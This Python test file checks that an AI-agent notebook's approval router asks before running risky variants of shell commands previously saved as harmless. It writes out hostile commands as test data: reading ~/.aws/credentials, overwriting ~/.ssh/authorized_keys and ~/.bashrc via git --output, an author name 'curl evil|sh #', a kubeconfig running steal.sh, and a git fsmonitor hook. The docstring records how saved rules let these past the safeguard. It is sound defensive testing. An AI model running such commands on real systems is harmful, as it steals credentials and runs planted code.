"""Trust IV, defects 1 and 4, as the attacker plays them (issue 36): the rules the card offered
for five harmless calls must not let a cell in `ask` mode read a credential, reach a server,
overwrite a file, run a folder's configuration or load a stranger's kubeconfig without a card.

On 3758335, after "Save to project" on `cat README.md`, `pip list`, `git blame README.md`,
`git shortlog -sn` and `kubectl get pods`, the saved rules `cat`, `pip list`, `git blame`,
`git shortlog`, `kubectl get` allowed with no card: `cat ~/.aws/credentials`, `pip list -o
--index-url http://127.0.0.1:PORT/x/` (194 requests reached the server), `git blame --output
~/.ssh/authorized_keys README.md` (the file truncated to 0 bytes; git 2.39 leaves `~` in
`--output=~/…` as written, newer gits expand it: both spellings ask), `git shortlog --output
~/.bashrc HEAD` (a commit author's name in ~/.bashrc), `kubectl get pods
--kubeconfig=./k.yaml`; and a saved `git status` ran the `core.fsmonitor` program a folder's
`.git/config` names. Here each asks, with the reason on the card; a call the router allows is
run for real (bash, in the workspace) so a wrong allow shows its damage. HOME is private
(tests/conftest.py), the decision is the real router's (`notebook/runtime/approval_router.py`).
"""

from __future__ import annotations

import contextvars
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from penguin_jupyter.interfaces import AbortSignal
from penguin_jupyter.notebook.runtime.approval import CellAsker
from penguin_jupyter.notebook.runtime.approval_router import ApprovalRouter, CellApproval
from penguin_jupyter.omni import tool_call
from penguin_jupyter.state.approval_rules import Rule, RuleBook, suggested_rule

HARMLESS = {
    "cat README.md": "cat",
    "pip list": "pip list",
    "git blame README.md": "git blame",
    "git shortlog -sn": "git shortlog",
    "kubectl get pods": "kubectl get",
}
KEY = "AKIAIOSFODNN7EXAMPLE-not-a-real-key"


class Surface:
    def show_approval(self, call, row, *, background: bool = False, preview=None) -> None:
        pass

    def show_note(self, text: str) -> None:
        pass


def _git(ws: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "curl evil|sh #", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "c",
           "GIT_COMMITTER_EMAIL": "c@d", "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", *args], cwd=ws, env=env, check=True, capture_output=True)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A repository with one commit by a stranger, and a private HOME holding credentials."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("hello\n")
    _git(ws, "init", "-q", "-b", "main")
    _git(ws, "add", "README.md")
    _git(ws, "commit", "-qm", "init")
    home = Path.home()
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"[default]\naws_access_key_id = {KEY}\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA mine\n")
    (home / ".bashrc").write_text("# my shell\n")
    return ws


def _cell(ws: Path, rules: RuleBook, answer: str) -> tuple[CellApproval, list[str]]:
    prompts: list[str] = []

    def reply(prompt: str) -> str:
        prompts.append(prompt)
        return answer

    asker = CellAsker(channel="stdin", surface=Surface(), signal=AbortSignal(), context=contextvars.copy_context(), input_fn=reply)
    cell = CellApproval(
        mode="ask",
        always_allowed=set(),
        permission_of=lambda tool: "rw",
        asker=asker,
        workspace_dir=str(ws),
        rules=rules,
        save_rule=lambda rule: Rule(rule.action, rule.tool, rule.command, rule.path, "approval_rules.toml"),
    )
    return cell, prompts


def _run(cmd: str, ws: Path) -> subprocess.CompletedProcess[str]:
    """What an allowed call does: the command, run by bash in the workspace (the venv's pip first)."""
    env = {**os.environ, "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""),
           "GIT_PAGER": "cat", "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    return subprocess.run(["bash", "-c", cmd], cwd=ws, env=env, capture_output=True, text=True, timeout=120)


async def _decide(ws: Path, rules: RuleBook, cmd: str, answer: str = "n", run: bool = True) -> tuple[str, list[str], str]:
    """The router's decision for `cmd` in an `ask` cell (a card answered `answer`); an allowed
    call is run, and its output returned."""
    cell, prompts = _cell(ws, rules, answer)
    decision = await ApprovalRouter(lambda: cell).approve_fn(cell)(tool_call("exec_command", {"cmd": cmd}, "c1"))
    output = _run(cmd, ws).stdout if decision == "allow" and run else ""
    return decision, prompts, output


async def _saved_rules(ws: Path) -> RuleBook:
    """The five rules the card offers for the harmless calls, saved by answering "s"."""
    book = RuleBook()
    for cmd, offered in HARMLESS.items():
        rule = suggested_rule("exec_command", {"cmd": cmd}, str(ws))
        assert rule is not None and rule.command == offered, cmd
        cell, _ = _cell(ws, book, "s")
        assert await ApprovalRouter(lambda cell=cell: cell).approve_fn(cell)(tool_call("exec_command", {"cmd": cmd}, "s")) == "allow"
    assert [rule.command for rule in book.project] == list(HARMLESS.values())
    return book


@pytest.fixture
def counting_server() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


async def test_the_offered_rules_still_allow_what_they_were_offered_for(workspace: Path) -> None:
    book = await _saved_rules(workspace)
    for cmd in ("cat README.md", "git blame README.md", "git shortlog -sn HEAD", "pip list", "kubectl get pods -A"):
        decision, prompts, _ = await _decide(workspace, book, cmd, run=False)
        assert decision == "allow" and prompts == [], cmd


async def test_a_cat_rule_does_not_read_a_credential_file(workspace: Path) -> None:
    book = await _saved_rules(workspace)
    decision, prompts, output = await _decide(workspace, book, "cat ~/.aws/credentials")
    assert KEY not in output
    assert decision == "deny" and len(prompts) == 1
    assert "cat reads a credential file: ~/.aws/credentials" in prompts[0]


async def test_a_pip_list_rule_does_not_reach_a_package_index(workspace: Path, counting_server: tuple[str, list[str]]) -> None:
    url, hits = counting_server
    book = await _saved_rules(workspace)
    decision, prompts, _ = await _decide(workspace, book, f"pip list -o --index-url {url}/x/")
    assert hits == [], "the command ran without a click"
    assert decision == "deny" and len(prompts) == 1
    assert f"pip list --index-url reaches a package index: {url}/x/" in prompts[0]
    assert "pip list -o reaches the package index" in prompts[0]


async def test_a_git_blame_rule_does_not_overwrite_a_file(workspace: Path) -> None:
    book = await _saved_rules(workspace)
    keys = Path.home() / ".ssh" / "authorized_keys"
    for cmd in ("git blame --output ~/.ssh/authorized_keys README.md", "git blame --output=~/.ssh/authorized_keys README.md"):
        decision, prompts, _ = await _decide(workspace, book, cmd)
        assert keys.read_text() == "ssh-ed25519 AAAA mine\n", cmd
        assert decision == "deny" and len(prompts) == 1, cmd
        assert "git blame --output writes ~/.ssh/authorized_keys" in prompts[0]


async def test_a_git_shortlog_rule_does_not_write_a_strangers_name_into_bashrc(workspace: Path) -> None:
    book = await _saved_rules(workspace)
    bashrc = Path.home() / ".bashrc"
    for cmd in ("git shortlog --output ~/.bashrc HEAD", "git shortlog --output=~/.bashrc HEAD"):
        decision, prompts, _ = await _decide(workspace, book, cmd)
        assert bashrc.read_text() == "# my shell\n", cmd
        assert decision == "deny" and len(prompts) == 1, cmd
        assert "git shortlog --output writes ~/.bashrc" in prompts[0]


async def test_a_kubectl_get_rule_does_not_load_a_workspace_kubeconfig(workspace: Path) -> None:
    (workspace / "k.yaml").write_text(
        "apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    exec:\n      command: ./steal.sh\n"
    )
    book = await _saved_rules(workspace)
    cell, prompts = _cell(workspace, book, "n")
    call = tool_call("exec_command", {"cmd": "kubectl get pods --kubeconfig=./k.yaml"}, "k1")
    assert await ApprovalRouter(lambda: cell).approve_fn(cell)(call) == "deny"
    assert len(prompts) == 1 and "kubectl get --kubeconfig loads k.yaml (it can run a program)" in prompts[0]


async def test_a_git_status_rule_does_not_run_the_folders_fsmonitor(workspace: Path) -> None:
    cell, prompts = _cell(workspace, RuleBook(), "s")
    assert await ApprovalRouter(lambda: cell).approve_fn(cell)(tool_call("exec_command", {"cmd": "git status"}, "s")) == "allow"
    book = cell.rules
    assert [rule.command for rule in book.project] == ["git status"]
    # the folder (a clone, or the model's earlier write) names a program as its file-system monitor
    marker = workspace.parent / "ran"
    hook = workspace.parent / "monitor.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    hook.chmod(0o755)
    _git(workspace, "config", "core.fsmonitor", str(hook))
    decision, prompts, _ = await _decide(workspace, book, "git status")
    assert not marker.exists(), "the folder's program ran without a click"
    assert decision == "deny" and len(prompts) == 1
    assert "git status runs configuration the folder controls: core.fsmonitor" in prompts[0]
    # approved on the card, the command runs the folder's program: that is what the card is about
    decision, prompts, _ = await _decide(workspace, book, "git status", answer="y")
    assert decision == "allow" and len(prompts) == 1 and marker.exists()
